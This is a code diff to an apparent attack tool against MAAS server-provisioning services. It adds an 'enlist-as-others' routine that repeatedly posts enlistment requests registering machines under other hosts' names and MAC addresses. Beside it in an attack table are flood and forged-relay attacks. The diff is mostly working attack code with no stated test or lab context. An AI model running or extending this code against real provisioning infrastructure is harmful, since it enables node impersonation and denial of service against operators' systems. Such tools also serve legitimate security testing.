@@ -177,6 +177,20 @@ const follow = (socket: Socket): boolean =>
     `GET /MAAS/api/2.0/events/?op=follow HTTP/1.1\r\nHost: ${rack}\r\nAuthorization: ${authorization(further)}\r\n\r\n`,
   );
 
+/** Reports machines that are others, one after another: `name=hardware address` each. */
+async function enlistAsOthers(others: readonly string[]): Promise<void> {
+  for (let index = 0; !isOver(); index += 1) {
+    const [hostname = '', mac = ''] = (others[index % others.length] ?? '').split('=');
+    const form = { op: 'new', architecture: 'amd64/generic', hostname, mac_addresses: mac };
+    const socket = connect({ host: rack, port: BOOT_PORT, localAddress: first });
+    socket.on('error', () => undefined);
+    socket.resume();
+    post(socket, '/MAAS/api/1.0/nodes/', new URLSearchParams(form).toString());
+    if (index >= others.length) tell();
+    await sleep(100);
+  }
+}
+
 const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   'discover-flood': () => discoverFlood(1000),
   'forged-relay': () => forgeRelay(500),
@@ -250,6 +264,7 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   },
   'rack-flood': () =>
     holdConnections(API_PORT, 64, (socket) => post(socket, '/MAAS/api/2.0/nodegroups/', registration())),
+  'enlist-as-others': () => enlistAsOthers(further.split(',')),
   'enlist-flood': () =>
     holdConnections(BOOT_PORT, 64, (socket) => post(socket, '/MAAS/api/1.0/nodes/', `op=new&${enlistment()}`)),
 };
